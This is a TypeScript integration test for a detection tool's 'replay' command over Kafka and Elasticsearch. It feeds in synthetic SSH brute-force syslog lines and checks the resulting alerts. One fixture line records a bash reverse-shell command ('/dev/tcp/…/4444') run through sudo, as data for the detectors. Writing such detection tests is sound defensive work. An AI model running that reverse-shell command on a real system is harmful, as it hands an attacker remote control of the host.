/**
 * `vigil replay` on REAL Kafka and Elasticsearch: three brute forces reach `vigil.events` an
 * hour apart (Kafka record time); a replay of the middle hour finds the middle one only, with
 * the same alerts `vigil hunt` finds in the same lines, and writes them to the replay's own
 * topics and indices, by id, so that running it again changes nothing.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { Bus } from '../../core/bus/index.js';
import type { EcsEvent } from '../../core/event/index.js';
import { run as hunt } from '../../cli/commands/hunt.js';
import { run as replay } from '../../cli/commands/replay.js';
import { parseTime } from '../../cli/kafka-range.js';
import { normalizeSyslog, parseSyslog } from '../../ingest/index.js';
import { esClient } from '../../sinks/elasticsearch/index.js';
import { cleanupTest } from '../support/cleanup.js';
import { testConfig } from '../support/config.js';

const NOW = Date.now();
const HOUR = 3_600_000;
const RULES = ['rules/sigma', 'rules/correlation'];

/** Twelve failed root logins from `ip`, 10 s apart, and (for the middle one) the shell that followed. */
function attack(ip: string, minute: number, shell: boolean): string[] {
  const at = (s: number) => `Nov 20 10:${String(minute + Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}`;
  const lines = Array.from(
    { length: 12 },
    (_, i) => `<38>${at(i * 10)} web-01 sshd[${500 + i}]: Failed password for root from ${ip} port ${40000 + i} ssh2`,
  );
  if (shell)
    lines.push(
      `<85>${at(130)} web-01 sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/${ip}/4444 0>&1`,
    );
  return lines;
}

function toEvents(lines: string[]): EcsEvent[] {
  const now = new Date(NOW);
  return lines.map((line) => {
    const parsed = parseSyslog(line, { now, timezone: 'UTC' });
    if (!parsed.ok) throw new Error(`test line does not parse: ${line}`);
    return normalizeSyslog(parsed.record, {
      inputId: 'replay-test',
      peer: '127.0.0.1',
      raw: Buffer.from(line),
      receivedAt: now,
      keepOriginal: false,
    });
  });
}

const capture = () => {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, io: { out: (l: string) => out.push(...l.split('\n')), err: (l: string) => err.push(l), now: () => new Date(NOW) } };
};

/** (rule id, @timestamp) of each alert, sorted: what both paths must agree on (event ids differ between a file and the bus). */
const signature = (alerts: EcsEvent[]) => alerts.map((a) => `${(a.rule as { id: string }).id} ${a['@timestamp']}`).sort();

describe('vigil replay (Kafka + Elasticsearch)', () => {
  const config = testConfig('replay');
  const bus = new Bus(config.kafka, 'replay-test');
  const dir = mkdtempSync(join(tmpdir(), 'vigil-replay-'));
  const configFile = join(dir, 'vigil.yaml');
  const es = esClient(config.elasticsearch);
  const middle = attack('203.0.113.5', 20, true);

  beforeAll(async () => {
    writeFileSync(configFile, stringify({ ...config, inputs: [] }));
    await bus.provision();
    const producer = await bus.producer();
    const batches: Array<[string[], number]> = [
      [attack('198.51.100.1', 0, false), NOW - 3 * HOUR],
      [middle, NOW - 2 * HOUR],
      [attack('192.0.2.9', 40, false), NOW - HOUR],
    ];
    for (const [lines, at] of batches)
      await producer.send(
        bus.topics.events,
        toEvents(lines).map((e, i) => ({ key: 'web-01', value: JSON.stringify(e), timestamp: at + i })),
      );
  });
  afterAll(async () => {
    await bus.close();
    await es.close();
    await cleanupTest(config);
  });

  it('reads the records Kafka received in the range, and finds what hunt finds in the same lines', async () => {
    const args = [
      '--config',
      configFile,
      '--from',
      new Date(NOW - 2.5 * HOUR).toISOString(),
      '--to',
      'now-90m',
      ...RULES.flatMap((r) => ['--rules', r]),
      '--name',
      'middle',
    ];
    const first = capture();
    expect(await replay(args, first.io)).toBe(0);
    expect(first.out[0]).toMatch(/^replayed 13 events of .*vigil\.events received /);

    const topic = `${config.kafka.topicPrefix}vigil.replay.middle.alerts`;
    const published = (await bus.read(topic, { idleMs: 1500 })).map((r) => JSON.parse(r.value.toString('utf8')) as EcsEvent);
    const file = join(dir, 'middle.log');
    writeFileSync(file, `${middle.join('\n')}\n`);
    const offline = capture();
    expect(await hunt(['--rules', RULES[0] as string, '--rules', RULES[1] as string, '--output', 'jsonl', file], offline.io)).toBe(0);
    const hunted = offline.out.filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as EcsEvent);
    expect(hunted.length).toBeGreaterThan(10);
    expect(signature(published)).toEqual(signature(hunted));
    const names = new Set(published.map((a) => (a.rule as { name: string }).name));
    expect(names).toContain('SSH Brute Force');
    // Only the middle hour's attacker.
    expect(published.map((a) => JSON.stringify(a)).filter((j) => j.includes('198.51.100.1') || j.includes('192.0.2.9'))).toEqual([]);

    const index = `${config.elasticsearch.indexPrefix}-replay-middle-alerts`;
    expect((await es.count({ index })).count).toBe(published.length);
    const incidents = await es.search<{ incident: { alerts: string[] } }>({
      index: `${config.elasticsearch.indexPrefix}-replay-middle-incidents`,
      size: 100,
    });
    const grouped = incidents.hits.hits.flatMap((h) => h._source!.incident.alerts);
    expect(new Set(grouped)).toEqual(new Set(published.map((a) => a.vigil?.id)));
    // The live topics and indices are untouched.
    expect(await bus.countRecords(bus.topics.alerts)).toBe(0);

    // Again: same ids, so the index holds the same documents.
    const again = capture();
    expect(await replay(args, again.io)).toBe(0);
    await es.indices.refresh({ index });
    expect((await es.count({ index })).count).toBe(published.length);
  });

  it('refuses a range that ends before it starts, and a time without a zone', async () => {
    const args = ['--config', configFile, '--rules', 'rules/sigma', '--name', 'bad'];
    await expect(replay([...args, '--from', 'now-1h', '--to', 'now-2h'], capture().io)).rejects.toThrow(/--to .* must be after --from/);
    expect(() => parseTime('2026-11-21T08:00:00', new Date(NOW), 'from')).toThrow(/not a time with a zone/);
    expect(parseTime('now-90m', new Date(NOW), 'to')).toBe(NOW - 90 * 60_000);
  });
});
